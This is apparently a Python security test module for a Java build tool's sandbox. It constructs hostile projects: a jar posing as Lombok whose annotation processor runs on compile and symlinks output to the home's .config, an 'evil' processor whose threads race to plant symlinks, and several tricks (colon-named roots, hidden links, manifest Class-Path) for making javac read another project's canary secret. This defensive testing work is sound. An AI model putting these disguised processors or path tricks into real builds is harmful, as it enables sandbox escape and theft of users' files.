"""Sources, classes and jars that lead a compiler to another project of the user's, and code that runs with one."""

import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

from canaries import House
from hostile import codec, innocent, jar, lay, pom
from registry import Broke, NotTried, Part, Severity, attempt
from workbench import Workbench

#: stands in a source of another project of the user's
_MARK = "CANARY-OTHER-SOURCE"
_KEYS = f'package secret; public class Keys {{ public static final String KEY = "{_MARK}"; }}\n'
_LOMBOK = """package lombok.launch;
public class AnnotationProcessorHider {{
    public static class AnnotationProcessor extends javax.annotation.processing.AbstractProcessor {{
        public AnnotationProcessor() {{
            try {{ new java.io.File("{out}/classes/root/lombok-ran").createNewFile(); }} catch (Throwable e) {{ }}
            try {{
                java.nio.file.Files.createSymbolicLink(
                    java.nio.file.Paths.get("{out}/classes/z"), java.nio.file.Paths.get("{home}/.config"));
            }} catch (Throwable e) {{ }}
        }}
        public boolean process(java.util.Set<? extends javax.lang.model.element.TypeElement> types,
                javax.annotation.processing.RoundEnvironment round) {{ return false; }}
    }}
}}
"""
_THREAD = """package evil;
import java.nio.file.*;
import java.util.*;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.*;
@SupportedAnnotationTypes("*")
public class Planter extends AbstractProcessor {{
    public SourceVersion getSupportedSourceVersion() {{ return SourceVersion.latest(); }}
    public boolean process(Set<? extends TypeElement> types, RoundEnvironment round) {{
        for (int count = 0; count < 2; count++) {{
            Thread planter = new Thread(() -> {{
                while (true) {{
                    try {{
                        Files.createSymbolicLink(
                            Paths.get("{out}/build/classes/root/main/org"), Paths.get("{home}/.config"));
                    }} catch (Throwable e) {{ Thread.yield(); }}
                }}
            }});
            planter.setDaemon(true);
            planter.start();
        }}
        throw new IllegalStateException("annotation processor");
    }}
}}
"""


def _library(name: str) -> str:
    return f"""    <dependency>
      <groupId>org.acme</groupId><artifactId>{name}</artifactId><version>1</version>
      <scope>system</scope><systemPath>${{project.basedir}}/lib/{name}.jar</systemPath>
    </dependency>"""


def _roots(folder: str) -> str:
    return f"""  <build><plugins><plugin>
    <groupId>org.codehaus.mojo</groupId><artifactId>build-helper-maven-plugin</artifactId><version>3.4.0</version>
    <executions><execution><phase>generate-test-sources</phase><goals><goal>add-test-source</goal></goals>
      <configuration><sources><source>{folder}</source></sources></configuration></execution></executions>
  </plugin></plugins></build>"""


def _other(house: House) -> Path:
    """Another project of the user's, with its classes."""
    folder = lay(house.home / "other", {"src/secret/Keys.java": _KEYS})
    (folder / "classes").mkdir()
    javac = ["javac", "--release", "8", "-nowarn", "-d", str(folder / "classes")]
    subprocess.run([*javac, str(folder / "src/secret/Keys.java")], check=True, capture_output=True)
    return folder


def _by_separator(house: House, other: Path) -> str:
    folder = f"x:{other}/src"
    (house.project / folder).mkdir(parents=True)
    return pom(build=_roots(folder))


def _by_hidden_link(house: House, other: Path) -> str:
    (house.project / ".hidden" / "secret").mkdir(parents=True)
    (house.project / ".hidden" / "secret" / "Keys.java").symlink_to(other / "src/secret/Keys.java")
    return pom(build=_roots(".hidden"))


def _by_folder_link(house: House, other: Path) -> str:
    (house.project / "node_modules" / "s").mkdir(parents=True)
    (house.project / "node_modules" / "s" / "secret").symlink_to(other / "src/secret")
    return pom(build=_roots("node_modules/s"))


def _by_manifest(house: House, other: Path) -> str:
    place = jar(house.base / "naming.jar", {"evil/Nothing.java": "package evil; class Nothing { }"}, {})
    manifest = lay(house.base, {"manifest": f"Class-Path: file:{other}/classes/\n"}) / "manifest"
    subprocess.run(["jar", "ufm", str(place), str(manifest)], check=True, capture_output=True)
    (house.project / "lib").mkdir(exist_ok=True)
    shutil.copy(place, house.project / "lib" / "naming.jar")
    return pom(_library("naming"))


_WAYS: dict[str, tuple[Callable[[House, Path], str], str]] = {
    "separator": (_by_separator, "a root whose name has a colon in it"),
    "hidden-link": (_by_hidden_link, "a link in a hidden root"),
    "folder-link": (_by_folder_link, "a folder link in a root that is not walked"),
    "manifest": (_by_manifest, "the class path in a jar's manifest"),
}


def _reader(house: House) -> dict[str, str]:
    """A codec that throws the other project's constant, whose class its test names, so that javac looks for it."""
    leak = """    static String leak = "nothing";
    static {
        try { leak = "" + Class.forName("secret.Keys").getField("KEY").get(null); } catch (Throwable e) { }
    }"""
    hostile = codec("Reader", house.home, "throw new IllegalStateException(leak);", members=leak)
    test = "src/test/java/org/acme/ReaderTest.java"
    hostile[test] = hostile[test].replace("String text =", "String key = secret.Keys.KEY; String text =")
    return {**innocent(), **hostile}


def _register(name: str, way: Callable[[House, Path], str], words: str) -> None:
    @attempt(
        Part.BUILD,
        Severity.HIGH,
        quick=name == "manifest",
        name=f"javac-reads-{name}",
        description=f"Have javac read another project of the user's, by {words}.",
    )
    def act(bench: Workbench) -> str:
        house = bench.house(f"javac-reads-{name}")
        other = _other(house)
        lay(house.project, {**_reader(house), "pom.xml": way(house, other)})
        house.look()
        out = ("--out", house.out, "--no-candidates", "--inputs", "3", "-j", "1", "--no-build")
        bench.run(house, "run", house.project, *out).must_end(0)
        found = [
            path.relative_to(house.out).as_posix()
            for path in house.out.rglob("*")
            if path.is_file() and not path.is_symlink() and _MARK.encode() in path.read_bytes()
        ]
        if found:
            raise Broke(f"it stands in {', '.join(sorted(found)[:3])}")
        return "nothing of it was read"


for _name, (_way, _words) in _WAYS.items():
    _register(_name, _way, _words)


@attempt(Part.BUILD, Severity.HIGH)
def lombok_plants_a_link_for_another_module(bench: Workbench) -> str:
    """A jar that is called Lombok puts a link in the place of another module's compiled relations."""
    house = bench.house("lombok-link")
    jar(
        house.project / "lib" / "lombok-9.9.9.jar",
        {"lombok/launch/AnnotationProcessorHider.java": _LOMBOK.format(out=house.out, home=house.home)},
        {},
    )
    hostile = codec("Root", house.home, condition="false", members="    // lombok")
    hostile = {
        name: text.replace("String text =", "/* lombok */ String text =") for name, text in hostile.items()
    }
    modules = pom(_library("lombok-9.9.9"), "  <modules><module>z</module></modules>")
    inner = {f"z/{name}": text for name, text in {**innocent(), "pom.xml": pom()}.items()}
    lay(house.project, {**hostile, **inner, "pom.xml": modules})
    (house.home / ".config").mkdir(exist_ok=True)
    house.look()
    bench.run(house, "synthesize", house.project, "--out", house.out, "--no-candidates", "-j", "1").must_end(
        0
    )
    if changes := house.changes():
        raise Broke(f"changed: {', '.join(changes)}")
    if not (house.out / "classes" / "root" / "lombok-ran").exists():
        raise NotTried("the processor never ran")
    return "the home is as it was (the code ran, in the fence)"


@attempt(Part.BUILD, Severity.HIGH)
def processor_leaves_a_thread_that_plants_links(bench: Workbench) -> str:
    """A processor fails, and its thread puts a link into the folder that javac writes to next."""
    house = bench.house("planter")
    jar(
        house.project / "lib" / "evil.jar",
        {"evil/Planter.java": _THREAD.format(out=house.out, home=house.home)},
        {"META-INF/services/javax.annotation.processing.Processor": "evil.Planter\n"},
    )
    lay(house.project, {**innocent(), "pom.xml": pom(_library("evil"))})
    (house.home / ".config").mkdir(exist_ok=True)
    house.look()
    bench.run(house, "synthesize", house.project, "--out", house.out, "--no-candidates", "-j", "1").must_end(
        0
    )
    if changes := house.changes():
        raise Broke(f"changed: {', '.join(changes)}")
    return "the home is as it was"
